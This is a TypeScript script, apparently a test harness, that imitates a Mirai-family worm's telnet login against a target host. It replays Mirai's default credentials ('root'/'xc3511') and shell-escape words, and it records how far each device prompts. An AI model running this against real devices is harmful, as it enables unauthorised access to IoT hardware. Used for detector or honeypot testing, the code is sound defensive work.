/**
 * What a worm of the Mirai family does to a device it has found: telnet-worm.ts TO FROM|- PORT COUNT
 * Prints one JSON line an attempt: { sourcePort, connected, prompts }, prompts: how often the device asked for more.
 */
import { connect } from 'node:net';
import { longEnough } from './long-enough.ts';

const [to = '', from = '', port = '', count = ''] = process.argv.slice(2);
const LONG_ENOUGH_MS = longEnough(2500);
const WORDS = ['root', 'xc3511', 'enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI'];

interface Told {
  sourcePort: number;
  connected: boolean;
  prompts: number;
}

function attempt(): Promise<Told> {
  const told: Told = { sourcePort: 0, connected: false, prompts: 0 };
  return new Promise((resolve) => {
    const socket = connect({ host: to, port: Number(port), ...(from === '-' ? {} : { localAddress: from }) });
    const end = (): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(told);
    };
    const timer = setTimeout(end, LONG_ENOUGH_MS);
    socket.on('connect', () => {
      told.connected = true;
      told.sourcePort = socket.localPort ?? 0;
    });
    socket.on('data', () => {
      const word = WORDS[told.prompts];
      told.prompts += 1;
      if (word === undefined) end();
      else socket.write(`${word}\r\n`);
    });
    socket.on('error', end);
  });
}

for (let index = 0; index < Number(count); index++) process.stdout.write(`${JSON.stringify(await attempt())}\n`);
